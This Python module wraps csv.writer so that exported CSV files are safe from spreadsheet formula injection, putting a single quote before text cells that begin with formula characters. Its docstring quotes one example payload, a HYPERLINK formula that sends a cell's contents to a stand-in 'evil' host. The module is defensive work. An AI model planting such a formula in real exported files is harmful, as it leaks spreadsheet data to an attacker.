"""CSV files a person opens in a spreadsheet (an invoice's lines, the usage receipts): every one
is written through `spreadsheet_writer`, here and nowhere else.

Excel, LibreOffice Calc and Google Sheets read a cell that begins with `=`, `+`, `-`, `@`, a tab
or a carriage return as a formula, so an event id such as `=HYPERLINK("https://evil/?"&A1)`
posted by a gateway would run in a planner's spreadsheet (formula injection). OWASP's rule:
such a text cell is prefixed with a single quote, which the spreadsheet takes as "this is
text" and does not show; the csv module quotes a cell holding a comma, a quote or a line break
and doubles its quotes (RFC 4180), so a cell cannot end early and start a formula of its own.

Only text is neutralised: ids, names, descriptions, anything that arrives as `str`. A number
passed as a number (int, float, Decimal) is written as it is, so a credit's -20.00 stays a
number a spreadsheet can sum. A caller therefore passes numbers as numbers, never formatted
into text first. None is an empty cell, as csv writes it.
"""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# The first characters a spreadsheet reads as the start of a formula (OWASP, CSV Injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_cell(value: Any) -> Any:
    """A text cell a spreadsheet would read as a formula, with a single quote before it; any
    other value (a number, None, an instant) as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SpreadsheetWriter:
    """csv.writer's writerow and writerows, each cell through `spreadsheet_cell`."""

    def __init__(self, stream: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(stream: _Writable, **fmtparams: Any) -> SpreadsheetWriter:
    """The writer of every CSV the project hands to people (`csv.writer`'s arguments)."""
    return SpreadsheetWriter(stream, **fmtparams)
